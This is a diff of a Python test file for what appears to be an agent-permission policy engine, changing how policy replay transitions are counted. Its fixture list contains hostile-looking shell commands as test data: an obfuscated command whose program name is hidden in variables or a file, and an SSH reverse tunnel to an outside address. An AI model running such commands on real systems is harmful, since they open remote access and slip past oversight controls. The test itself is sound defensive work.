@@ -14,7 +14,7 @@ from gatekeeper.models import Principal
 from gatekeeper.policy.lint import policy_files_in
 from gatekeeper.policy.replay import read_jsonl, replay, replay_async
 
-from . import PACK, copy_pack, edit_policy
+from . import PACK, copy_pack, edit_policy, line_of
 
 OPAQUE_ESCALATE = (
     "p, agent, shell.opaque, escalate, True, the program to run cannot be known without running it"
@@ -27,7 +27,7 @@ TRAFFIC: list[tuple[tuple[str, ...], str, dict[str, Any], int]] = [
     (("agent",), "shell.exec", {"cmd": "git status"}, 7),  # allowed -> denied (git rule deleted)
     (("agent",), "shell.exec", {"cmd": "ls -la"}, 5),  # unchanged
     (("agent",), "shell.exec", {"cmd": "socat -h"}, 3),  # denied -> allowed (socat granted)
-    (("agent",), "shell.exec", {"cmd": "S=ss; H=h; $S$H -R 1:a:2 h"}, 2),  # pending -> denied
+    (("agent",), "shell.exec", {"cmd": "P=$(cat prog.txt); $P -R 1:a:2 h"}, 2),  # pending -> denied
     (("agent",), "shell.exec", {"cmd": "ssh -N -R 2222:localhost:22 u@203.0.113.7"}, 4),  # unchanged deny
     (("researcher",), "file.read", {"path": "README.md"}, 6),  # unchanged
     (("agent",), "compute.provision", {"gpu_type": "H100", "count": 8, "hours": 72}, 1),  # unchanged
@@ -119,7 +119,8 @@ def test_transitions_are_counted(tmp_path: Path) -> None:
     assert len(examples) == 2
     ex = examples[0]
     assert ex.tool == "shell.exec" and ex.new_capability == "proc.exec:git"
-    assert ex.old_rule == "policy.csv:41" and ex.new_rule is None and "not allowed" in ex.new_reason
+    assert ex.old_rule == line_of("tool:shell.exec, allow") and ex.new_rule is None
+    assert "not allowed" in ex.new_reason
     opaque = report.examples["pending→denied"][0]
     assert opaque.old_capability == "shell.opaque" and opaque.new_rule is not None
     assert report.redacted == 2 and report.redacted_changed == 0
